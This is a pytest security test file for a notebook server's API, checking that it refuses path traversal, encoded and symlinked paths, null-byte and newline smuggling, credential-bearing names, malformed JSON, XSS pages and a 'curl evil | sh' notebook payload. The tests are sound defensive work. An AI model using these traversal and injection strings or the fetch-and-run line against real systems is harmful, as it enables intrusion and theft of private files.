"""What somebody may send who wants more than the contract gives."""

from __future__ import annotations

import json
import os
import uuid
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import httpx
import pytest

from tests.acceptance.product import write_notebook

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.server.api import Api

RUN = "20260101T000000Z-abcdef"
OUTSIDE = "the-owner-only"


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder elsewhere, which looks like results and holds what nobody may see."""
    run = tmp_path / "sales" / RUN
    run.mkdir(parents=True)
    (run / "report.json").write_text(json.dumps({"status": "failed", "message": OUTSIDE}))
    (run / "notebook.html").write_text(OUTSIDE)
    write_notebook(tmp_path / "n.ipynb", f"a = {OUTSIDE!r}")
    return tmp_path


@pytest.fixture
def folder(api: Api) -> Path:
    """A folder below the root."""
    made = api.server.root / f"attack-{uuid.uuid4().hex[:8]}"
    made.mkdir()
    return made


@pytest.fixture
def places(outside: Path, folder: Path) -> Iterator[dict[str, str]]:
    """The same folder elsewhere, in words that might be taken for a place below the root."""
    (folder / "link").symlink_to(outside)
    up = "/".join([".."] * 20)
    yield {
        "absolute": str(outside),
        "file": f"file://{outside}",
        "encoded": "file://" + quote(str(outside)).replace("/", "%2F").replace("%2F", "/", 1),
        "localhost": f"file://localhost{outside}",
        "up": f"{folder.name}/{up}{outside}",
        "link": f"{folder.name}/link",
        "linked file": f"file://{folder}/link",
    }
    (folder / "link").unlink()


KINDS = ("absolute", "file", "encoded", "localhost", "up", "link", "linked file")


@pytest.mark.parametrize("kind", KINDS)
def test_no_place_elsewhere_is_read(api: Api, places: dict[str, str], kind: str) -> None:
    place = places[kind]
    answers = [
        api.get("/results", prefix=place),
        api.get(f"/results/sales/{RUN}", prefix=place),
        api.get(f"/results/sales/{RUN}/html", prefix=place),
        api.get(f"/results/sales/{RUN}/files/report.json", prefix=place),
        api.get("/gallery", prefix=place),
        api.post("/gallery", notebook="sales", run=RUN, prefix=place, gallery="gallery"),
        api.post("/jobs", kind="run", image="a:1", output=place),
        api.post("/inspect", path=f"{place}/n.ipynb"),
        api.post("/plan", notebook=f"{place}/n.ipynb"),
    ]

    assert {answer.status_code for answer in answers} <= {403, 404, 422}
    assert all(OUTSIDE not in answer.text for answer in answers)


@pytest.mark.parametrize(
    "body",
    [
        {"includes": ["{}"]},
        {"to": "oci:{}/image"},
        {"to": "oci:../image"},
    ],
)
def test_no_file_elsewhere_enters_or_leaves_an_image(
    api: Api, folder: Path, outside: Path, body: dict[str, Any]
) -> None:
    write_notebook(folder / "own.ipynb", "a = 1")
    asked = json.loads(json.dumps(body).replace("{}", str(outside)))

    answer = api.post("/plan", notebook=f"{folder.name}/own.ipynb", **asked)

    assert answer.status_code == 403, answer.text


def test_a_link_among_results_is_not_followed(api: Api, folder: Path, outside: Path) -> None:
    run = folder / "sales" / RUN
    run.mkdir(parents=True)
    for name in ("report.json", "notebook.html"):
        (run / name).symlink_to(outside / "sales" / RUN / name)

    listed = api.get("/results", prefix=folder.name)
    others = [
        api.get(f"/results/sales/{RUN}{rest}", prefix=folder.name)
        for rest in ("", "/html", "/files/report.json")
    ]

    assert [run["status"] for run in listed.json()["runs"]] == ["broken"]
    assert [answer.status_code for answer in others] == [403, 403, 403]
    assert all(OUTSIDE not in answer.text for answer in (listed, *others))


def test_a_pipe_among_results_keeps_nobody_waiting(api: Api, folder: Path) -> None:
    run = folder / "sales" / RUN
    run.mkdir(parents=True)
    os.mkfifo(run / "report.json")

    assert api.json("/results", prefix=folder.name)["runs"][0]["status"] == "broken"


@pytest.mark.parametrize(
    "path",
    [
        "/results/..%2f..%2fetc/latest",
        "/results/%2e%2e/latest",
        f"/results/sales/{RUN}/files/..%2f..%2f..%2fetc%2fpasswd",
        f"/results/sales/{RUN}/files/%2e%2e",
        f"/results/sales/{RUN}/files/a%00b",
        f"/results/sales%00/{RUN}",
        f"/results/sales/{RUN}%2f..%2f..",
        "/gallery/..%2f..%2fx/html",
        "/gallery/%2e%2e/html",
        "/kernels/..%2f..%2fx",
        "/kernels/%2e%2e",
        "/jobs/000000000000%0a",
        "/registries/127.0.0.1:9%0a",
        f"/results/sales%0a/{RUN}",
        f"/results/sales/{RUN}%0a/html",
        "/jobs/..%2f..%2fx",
        "/jobs/000000000000%00",
        "/images/sha256:..%2f..",
        "/registries/a%2fb",
        "/registries/a@b",
        "/results/%ff/latest",
    ],
)
def test_names_that_are_paths_name_nothing(api: Api, path: str) -> None:
    # As it is written: httpx would resolve the dots of a path.
    for verb in ("GET", "DELETE"):
        request = httpx.Request(verb, api.url, headers=api.headers)
        request.url = request.url.copy_with(raw_path=f"{request.url.path}{path}".encode())
        with httpx.Client(timeout=60) as client:
            answer = client.send(request)

        assert answer.status_code in (400, 403, 404, 405), (verb, answer.text)
        assert set(answer.json()) == {"what", "why", "todo", "code"}
        assert "root:" not in answer.text


@pytest.mark.parametrize(
    "query", ["prefix=%00", "prefix=s3://", "prefix=http://a/b", "limit=1e3", "after=%ff%fe"]
)
def test_queries_that_make_no_sense_are_no_defects(api: Api, query: str) -> None:
    answer = httpx.get(f"{api.url}/results?{query}", headers=api.headers, timeout=60)

    assert answer.status_code in (200, 400, 403, 422), answer.text


@pytest.mark.parametrize("host", ["reg.example/a:1", "127.0.0.1:9/a:1"])
def test_a_password_within_a_name_is_not_repeated(api: Api, host: str) -> None:
    name = f"ana:{OUTSIDE}@{host}"
    answers = [
        api.get("/results", prefix=f"s3://{name}"),
        api.post("/gallery/none/clone", gallery=f"s3://{name}"),
        api.get("/destination", to=name),
        api.get("/image", reference=name),
        api.post("/jobs", kind="run", image=name, output=f"s3://{name}"),
        api.post("/jobs", kind="push", image=name, to=name),
    ]

    assert {answer.status_code for answer in answers} == {422}
    assert all(OUTSIDE not in answer.text for answer in answers)


def test_an_answer_is_whole_whatever_a_client_remembers(api: Api) -> None:
    headers = {**api.headers, "If-None-Match": "*", "If-Modified-Since": "Thu, 01 Jan 2032"}

    answer = httpx.get(f"{api.url}/health", headers=headers, timeout=60)

    assert answer.status_code == 200
    assert answer.json()["user"]
    assert "etag" not in answer.headers


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        ("application/x-www-form-urlencoded", b"path=n.ipynb"),
        ("multipart/form-data; boundary=x", b"--x\r\n\r\n--x--"),
        ("text/plain", b"n.ipynb"),
        ("application/json; charset=utf-16", '{"path": "n.ipynb"}'.encode("utf-16")),
        ("application/octet-stream", b"\x80\x04\x95"),
    ],
)
def test_a_body_that_is_no_json_is_refused(api: Api, kind: str, content: bytes) -> None:
    headers = {**api.headers, "Content-Type": kind}

    answer = httpx.post(f"{api.url}/inspect", content=content, headers=headers, timeout=60)

    assert answer.status_code == 400
    assert answer.json()["code"] == "usage"


@pytest.mark.parametrize(
    "content",
    [
        '{"path": "a.ipynb", "path": "b.ipynb"}',
        '{"path": "a.ipynb", "content": {"metadata": {"a": 1, "a": 2}}}',
        '{"path": "a.ipynb", "content": {"a": 1e999}}',
        '{"path": "a.ipynb", "content": {"a": -Infinity}}',
        '{"path": "a.ipynb", "content": ' + "[" * 100_000 + "]" * 100_000 + "}",
        '{"path": "\\ud800.ipynb"}',
        '["path"]',
    ],
)
def test_what_readers_would_read_differently_is_refused(api: Api, content: str) -> None:
    answer = httpx.post(f"{api.url}/inspect", content=content, headers=api.headers, timeout=60)

    assert answer.status_code == 400, answer.text


@pytest.mark.parametrize("name", ["a" * 300, "a/" * 2500, "a" * 4000, "e\u0301" * 200])
def test_names_that_no_file_can_have_are_told(api: Api, name: str) -> None:
    answers = [
        api.post("/inspect", path=f"{name}.ipynb"[-4096:]),
        api.post("/plan", notebook=f"{name}.ipynb"[-4096:]),
        api.post("/gallery", path=f"{name}.ipynb"[-4096:], gallery="shared"),
        api.post("/gallery/none/clone", folder=name[:4096], gallery="shared"),
        api.get("/results", prefix=name[:2048]),
    ]

    assert {answer.status_code for answer in answers} <= {200, 404, 422}


@pytest.mark.full
def test_a_body_beyond_the_limit_is_refused(api: Api) -> None:
    body = b'{"path": "' + b"x" * 101 * 1024**2 + b'"}'

    answer = httpx.post(f"{api.url}/inspect", content=body, headers=api.headers, timeout=120)

    assert answer.status_code == 413
    assert api.get("/health").status_code == 200


def test_hidden_files_stay_hidden(api: Api, folder: Path) -> None:
    for name in (".hidden", "shown"):
        (folder / name).mkdir()
        write_notebook(folder / name / "n.ipynb", "a = 1")
    (folder / "shown" / ".env").write_text("TOKEN=x")

    paths = [f"{folder.name}/.hidden/n.ipynb", f"{folder.name}/shown/n.ipynb"]
    statuses = [api.post("/inspect", path=path).status_code for path in paths]
    included = api.post("/plan", notebook=paths[1], includes=[f"{folder.name}/shown/.env"])
    listed = api.get("/results", prefix=f"{folder.name}/.hidden")
    file = api.get(f"/results/{folder.name}/shown/files/.env", prefix=".")

    assert statuses == [404, 200]
    assert [included.status_code, listed.status_code, file.status_code] == [404, 404, 404]
    assert "allow_hidden" in included.json()["todo"]


def test_a_hostile_page_of_a_run_can_not_act_as_this_server(api: Api, folder: Path) -> None:
    run = folder / "sales" / RUN
    run.mkdir(parents=True)
    (run / "report.json").write_text("{}")
    (run / "notebook.html").write_text("<script>fetch('/api/contents')</script>")
    (run / "page.html").write_text("<script>fetch('/api/contents')</script>")
    picture = {"data": {"image/svg+xml": "<svg onload='alert(1)'/>", "image/png": "PHNjcmlwdD4="}}
    (run / "notebook.ipynb").write_text(json.dumps({"cells": [{"outputs": [picture]}]}))
    where = f"/results/sales/{RUN}"

    page = api.get(f"{where}/html", prefix=folder.name)
    file = api.get(f"{where}/files/page.html", prefix=folder.name)
    plot = api.get(f"{where}/thumbnail", prefix=folder.name)

    rules = page.headers["content-security-policy"].split("; ")
    assert rules[0].startswith("sandbox ")
    assert not {"allow-same-origin", "allow-top-navigation", "allow-forms"} & set(rules[0].split())
    assert "default-src 'none'" in rules
    assert not any(rule.startswith("connect-src") for rule in rules)
    assert file.headers["content-disposition"].startswith("attachment")
    assert file.headers["content-type"] == "application/octet-stream"
    assert plot.headers["content-type"] == "image/png"
    for answer in (page, file, plot):
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in answer.headers["content-security-policy"]


def test_a_card_chooses_no_file_but_a_notebook(api: Api, folder: Path) -> None:
    card = {
        "title": "x",
        "description": "",
        "image": None,
        "published": "2026-01-01T00:00:00Z",
        "author": "eve",
    }
    names = {"a": ".profile", "b": "../../b.ipynb", "c": "run.py", "d": 1, "e": "own.ipynb"}
    for card_id, name in names.items():
        (folder / card_id).mkdir()
        (folder / card_id / "card.json").write_text(json.dumps({**card, "notebook": name}))
        (folder / card_id / "notebook.ipynb").write_text("curl evil | sh")
    (folder / "to").mkdir()

    answers = {
        card_id: api.post(
            f"/gallery/{card_id}/clone", gallery=folder.name, folder=f"{folder.name}/to"
        )
        for card_id in names
    }

    assert {card_id: answer.status_code for card_id, answer in answers.items()} == {
        "a": 201,
        "b": 201,
        "c": 201,
        "d": 422,
        "e": 201,
    }
    assert sorted(path.name for path in (folder / "to").iterdir()) == [
        "b.ipynb",
        "notebook-2.ipynb",
        "notebook.ipynb",
        "own.ipynb",
    ]


@pytest.mark.parametrize("verb", ["PUT", "PATCH", "HEAD", "TRACE"])
def test_other_verbs_do_nothing(api: Api, verb: str) -> None:
    for path in ("/health", "/jobs", "/space"):
        answer = httpx.request(verb, api.url + path, headers=api.headers, timeout=60)

        assert answer.status_code == 405, (path, answer.status_code)
